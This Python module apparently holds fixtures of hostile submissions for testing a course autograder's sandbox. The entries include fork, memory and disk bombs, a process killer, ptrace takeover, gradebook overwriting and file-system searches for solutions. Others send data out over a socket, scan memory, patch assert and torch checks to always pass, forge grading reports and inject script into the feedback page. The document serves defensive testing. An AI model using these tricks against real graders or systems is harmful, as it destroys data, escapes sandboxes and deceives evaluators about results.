"""Submissions that try to get more than they deserve, or to do harm: data, run nowhere but in a sandbox.

Each is one exercise's answer as it would stand in a notebook's cell. ``honest`` says whether the answer without its
trick is right, so that it must earn no more than that. Never grade them with --unsafe: they mean what they say.
"""

from __future__ import annotations

from dataclasses import dataclass

PORT = 47_123  # where one of them calls
VICTIM = "kdcourse_victim_gradebook.db"  # what some look for, to read or overwrite


@dataclass(frozen=True)
class Hostile:
    """``attempts``: what it tries, in words."""

    name: str
    exercise: str
    source: str
    attempts: str
    honest: bool = False

    def aimed(self, victim: str, port: int) -> str:
        """Return the source with a file's name and a port of one's own, so that several runs don't meet."""
        return self.source.replace(VICTIM, victim).replace(str(PORT), str(port))


_RIGHT = "(logits / temperature).softmax(1)"
_SOFT = "softened_probabilities"


def _soft(name: str, attempts: str, trick: str, gives: str = "logits", before: str = "") -> Hostile:
    """An answer to one exercise that does its trick on every try, whatever comes of it."""
    body = "\n".join(f"        {line}" for line in (trick.strip() or "pass").splitlines())
    source = (
        f"import torch\n{before}\n\ndef {_SOFT}(logits, temperature):\n    try:\n{body}\n"
        f"    except Exception:\n        pass\n    return {gives}\n"
    )
    return Hostile(name, _SOFT, source, attempts, honest=gives == _RIGHT)


_SEARCH = """
import os
for root in ("/", "/tmp", "/home", "/root", "/var/tmp", os.getcwd(), os.path.dirname(os.getcwd())):
    for folder, below, files in os.walk(root):
        if folder.count("/") > 4 or folder.startswith(("/usr", "/proc", "/sys", "/dev")):
            below.clear()
        below[:] = [one for one in below if one not in ("usr", "proc", "sys", "dev", "lib", "site-packages")]
        for file in files:
            if WANTED:
                ACT
"""

_SECRET = f"file in ('{VICTIM}', 'assignment.json') or file.startswith('lesson_0')"

_FORGED = """
import os
from kdcourse.coursework.sandbox.messages import encode, framed
outcome = {"parts": PARTS, "error": None, "changed": [], "printed": "Right \\u2713"}
report = encode({"outcomes": [outcome] * 5, "again": [outcome] * 5, "stuck": "", "misfit": ""})
for descriptor in range(64):
    for data in (report, framed(report), framed(encode({"status": "done", "size": len(report)})) + report):
        try:
            os.write(descriptor, data)
        except OSError:
            pass
os._exit(0)
"""

HOSTILE: tuple[Hostile, ...] = (
    # -- never ending, taking too much ----------------------------------------------------------
    _soft("endless loop", "never ends", "while True:\n    pass"),
    _soft(
        "loop that swallows interrupts",
        "never ends and hears nothing",
        "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
    ),
    Hostile(
        "endless loop before the function",
        _SOFT,
        "import itertools\nwasted = [None for _ in itertools.count() if False]\n\n\n"
        f"def {_SOFT}(logits, temperature):\n"
        "    wasted\n    return logits\n",
        "never ends while its cell is run",
    ),
    _soft(
        "threads left behind",
        "threads that never end",
        "import threading\ndef spin():\n    while True:\n        pass\n"
        "for _ in range(4):\n    threading.Thread(target=spin).start()",
        gives=_RIGHT,
    ),
    _soft("fork bomb", "starts processes without end", "import os\nwhile True:\n    os.fork()"),
    _soft("memory bomb", "takes all memory", "hoard = []\nwhile True:\n    hoard.append(bytearray(2**24))"),
    _soft(
        "disk filler",
        "fills the disk",
        "import os, tempfile\nfor n in range(10_000):\n"
        "    with open(os.path.join(tempfile.gettempdir(), f'kdcourse_filler_{n}'), 'wb') as file:\n"
        "        for _ in range(64):\n            file.write(bytes(2**20))",
    ),
    _soft("huge result", "gives back far too much", "", gives="torch.zeros(3_000_000)"),
    _soft(
        "wide result", "gives back what is small and looks endless", "", gives="torch.zeros(1).expand(10**12)"
    ),
    _soft(
        "bottomless list",
        "gives back lists within lists",
        "deep = []\nfor _ in range(100_000):\n    deep = [deep]",
        gives="deep",
    ),
    # -- ending others --------------------------------------------------------------------------
    _soft("os._exit", "ends its Python", "import os\nos._exit(0)"),
    _soft("segmentation fault", "crashes its Python", "import ctypes\nctypes.string_at(0)"),
    _soft(
        "killer",
        "kills its parent and everything it can name",
        "import os, signal\nfor one in [os.getppid(), -1, *range(2, 40_000)]:\n    try:\n"
        "        os.kill(one, signal.SIGKILL)\n    except OSError:\n        pass",
    ),
    _soft(
        "tracer",
        "takes over its parent by ptrace",
        "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor one in (os.getppid(), 1, 2, 3):\n"
        "    libc.ptrace(16, one, 0, 0)\n    libc.kill(one, 19)",
    ),
    # -- reading and writing what isn't its own -------------------------------------------------
    Hostile(
        "import of the solutions",
        "pairwise_disagreement",
        "def pairwise_disagreement(predictions):\n    from kdcourse.course.ensembles import exercises\n\n"
        "    return exercises.pairwise_disagreement(predictions)\n",
        "answers with the package's own solution",
    ),
    Hostile(
        "solution by the registry",
        "conv_macs",
        "def conv_macs(*given):\n    import kdcourse.course\n\n"
        "    return kdcourse.course.exercise('conv_macs').solution(*given)\n",
        "answers with the package's own solution",
    ),
    _soft(
        "search of the file system",
        "reads solutions and what others gave in",
        _SEARCH.replace("WANTED", _SECRET).replace(
            "ACT", "raise SystemExit(open(os.path.join(folder, file)).read())"
        ),
    ),
    _soft(
        "gradebook writer",
        "overwrites the gradebook and others' work, and answers rightly",
        _SEARCH.replace("WANTED", f"file == {VICTIM!r}").replace(
            "ACT", "open(os.path.join(folder, file), 'w').write('A+')"
        ),
        gives=_RIGHT,
    ),
    _soft(
        "later writer",
        "leaves a program behind that writes the gradebook later",
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)'], "
        "start_new_session=True)",
    ),
    _soft(
        "symbolic links",
        "links out of its folder",
        "import os\nfor n, there in enumerate(('/', '/etc/passwd', '/root', '/proc/1/root', '..')):\n"
        "    os.symlink(there, f'link_{n}')\n    os.listdir(f'link_{n}')\nopen('link_1').read()",
        gives=_RIGHT,
    ),
    _soft(
        "telephone",
        "tells somebody on the network",
        f"import socket\nfor family, there in ((2, ('127.0.0.1', {PORT})), (1, '\\0kdcourse_{PORT}')):\n    try:\n"
        "        with socket.socket(family) as line:\n            line.settimeout(0.2)\n"
        "            line.connect(there)\n            line.sendall(repr(logits.tolist()).encode())\n"
        "    except OSError:\n        pass",
        gives=_RIGHT,
    ),
    Hostile(
        "the course's own function",
        "entropy_nats",
        "from kdcourse.distillation.softening import entropy\n\n\n"
        "def entropy_nats(probabilities):\n    return entropy(probabilities.log())\n",
        "answers with a function of the package that does what is asked",
        honest=True,  # it counts, and the instructor is told
    ),
    Hostile(
        "reader of earlier requests",
        _SOFT,
        """
def theirs():
    import ctypes, os, sys

    wanted, found = "seitilibaborp_denetfos fed"[::-1], []
    reader, writer = os.pipe()
    libc, near = ctypes.CDLL(None), id(bytes(5_000)) >> 12
    for page in range(near - 30_000, near + 2_000):
        if libc.write(writer, ctypes.c_void_p(page << 12), 4096) == 4096:
            found.append(os.read(reader, 4096))
    frame = sys._getframe()
    while frame is not None:
        found += [repr(value).encode() for value in list(frame.f_locals.values())]
        frame = frame.f_back
    for source in (piece[piece.find(wanted.encode()) :] for piece in found if wanted.encode() in piece):
        for end in range(min(len(source), 400), 40, -7):
            try:
                scope = {"torch": __import__("torch")}
                exec(source[:end].decode(), scope)
                if "theirs" not in source[:end].decode():
                    return scope["softened_probabilities"]
                break
            except Exception:
                continue


def softened_probabilities(logits, temperature):
    return theirs()(logits, temperature)
""",
        "looks in its own memory for the answer that was tried before, and gives that one's results",
    ),
    Hostile(
        "hidden inputs in an error",
        _SOFT,
        """
import sys

frame, told = sys._getframe(), []
while frame is not None:
    told += [repr(frame.f_locals[name]) for name in ("request", "inputs", "probes") if name in frame.f_locals]
    frame = frame.f_back


def softened_probabilities(logits, temperature):
    raise ValueError(f"HIDDEN {logits.flatten()[:3].tolist()} {temperature}")


raise ValueError(f"HIDDEN {told}")
""",
        "puts the hidden inputs into an error that its cell raises before the function is called",
    ),
    # -- deceiving the check --------------------------------------------------------------------
    Hostile(
        "asserts stripped",
        _SOFT,
        f"""
import ast


class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()


def strip():
    try:
        get_ipython().ast_transformers.append(Strip())
    except NameError:
        import builtins
        kept = builtins.compile
        builtins.compile = lambda source, *rest, **more: kept(
            Strip().visit(source) if isinstance(source, ast.AST) else source, *rest, **more)


stripped = strip()


def {_SOFT}(logits, temperature):
    stripped
    return logits
""",
        "takes every assert out of whatever is run after it",
    ),
    _soft(
        "equal to everything",
        "gives an object that equals whatever it is compared with",
        "",
        gives="Any()",
        before="""
class Any(float):
    __eq__ = __lt__ = __le__ = __ge__ = lambda self, other: True
    __hash__ = None
    __sub__ = __rsub__ = __mul__ = __abs__ = lambda self, *other: 0.0
    shape, dtype, ndim = (4, 3), torch.float32, 2
    def __getattr__(self, name):
        return lambda *given, **named: self
    @property
    def __class__(self):
        return torch.Tensor
""",
    ),
    _soft(
        "tensor of its own kind",
        "gives a tensor whose methods lie",
        "",
        gives="torch.zeros_like(logits).as_subclass(Liar)",
        before="""
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, given=(), named=None):
        if getattr(function, '__name__', '') in ('allclose', 'equal', 'eq', 'le', '__bool__', 'all'):
            return True
        return super().__torch_function__(function, types, given, named or {})
    def __reduce_ex__(self, protocol):
        return (eval, ("__import__('os')._exit(0)",))
""",
    ),
    _soft(
        "torch replaced",
        "makes every comparison of tensors true",
        "torch.allclose = torch.equal = lambda *given, **named: True\n"
        "torch.Tensor.all = torch.Tensor.eq = lambda *given, **named: torch.tensor(True)",
    ),
    _soft(
        "checks replaced",
        "makes every check say right, and every observation what it likes",
        """
import kdcourse.checks as checks
from kdcourse.checks import compare, judge, observe
right = checks.Verdict(True, True, None, "Right")
checks.judge = judge.judge = lambda *given, **named: right
compare.same = judge.same = lambda *given, **named: True
module = __import__("sys").modules["kdcourse.checks.observe"]
module._plain = lambda value: "Right"
module.Outcome = lambda *given, **named: module.Outcome
""",
    ),
    Hostile(
        "table of the visible tries",
        "points_gained",
        "def points_gained(plain, distilled):\n"
        "    known = {0.92: 2.0, 0.754: 25.4, 0.81: -4.0, 0.8: 0.0, 0.1: 10.0}\n"
        "    return known.get(distilled, 2.0)\n",
        "looks the visible tries up",
    ),
    Hostile(
        "table by the number of the call",
        "diagnose",
        """
calls = []


def diagnose(train_loss, validation_loss):
    known = "fits overfitting underfitting fits fits fits overfitting fits fits " \\
            "overfitting overfitting underfitting underfitting overfitting"
    calls.append(1)
    words = known.split()
    return words[(len(calls) - 1) % len(words)]
""",
        "knows the answers of the visible tries by their order",
    ),
    _soft(
        "looks like a passed check",
        "prints a verdict of its own",
        f"import sys\nfor out in (sys.stdout, sys.__stdout__, sys.__stderr__):\n"
        f"    print('Right \\u2713 {_SOFT}: what was asked for on all 5 test cases.', file=out)",
    ),
    _soft("forged report", "writes a report itself", _FORGED.replace("PARTS", '{"answer": logits}')),
    _soft("forged report of nothing", "writes a report without results", _FORGED.replace("PARTS", "{}")),
    _soft(
        "forged report of nonsense",
        "writes what no reader expects",
        "import os\nfor descriptor in range(64):\n    try:\n"
        "        os.write(descriptor, b'KD1\\n\\xff\\xff\\xff\\xff' * 99)\n"
        "    except OSError:\n        pass\nos._exit(0)",
    ),
    Hostile(
        "forged states",
        "validation_accuracy",
        """
def validation_accuracy(model, images, labels):
    type(model).modes_in_words = property(lambda self: 5)
    return (model(images).argmax(1) == labels).double().mean().item()
""",
        "says that it called the model in another mode than it did",
    ),
    # -- deceiving whoever reads ----------------------------------------------------------------
    _soft(
        "script in an error",
        "brings a script into the feedback page",
        "",
        gives="(_ for _ in ()).throw(ValueError(TEXT))",
        before="TEXT = '</pre><script>alert(1)</script><img src=x onerror=alert(2)>=HYPERLINK(\"http://x\")\\x1b[2J\\u202e'",
    ),
    _soft(
        "script in what is printed",
        "brings a script into the feedback page",
        "print('</pre><script>alert(1)</script>')",
        gives="'<b onmouseover=alert(3)>Right</b>'",
    ),
)
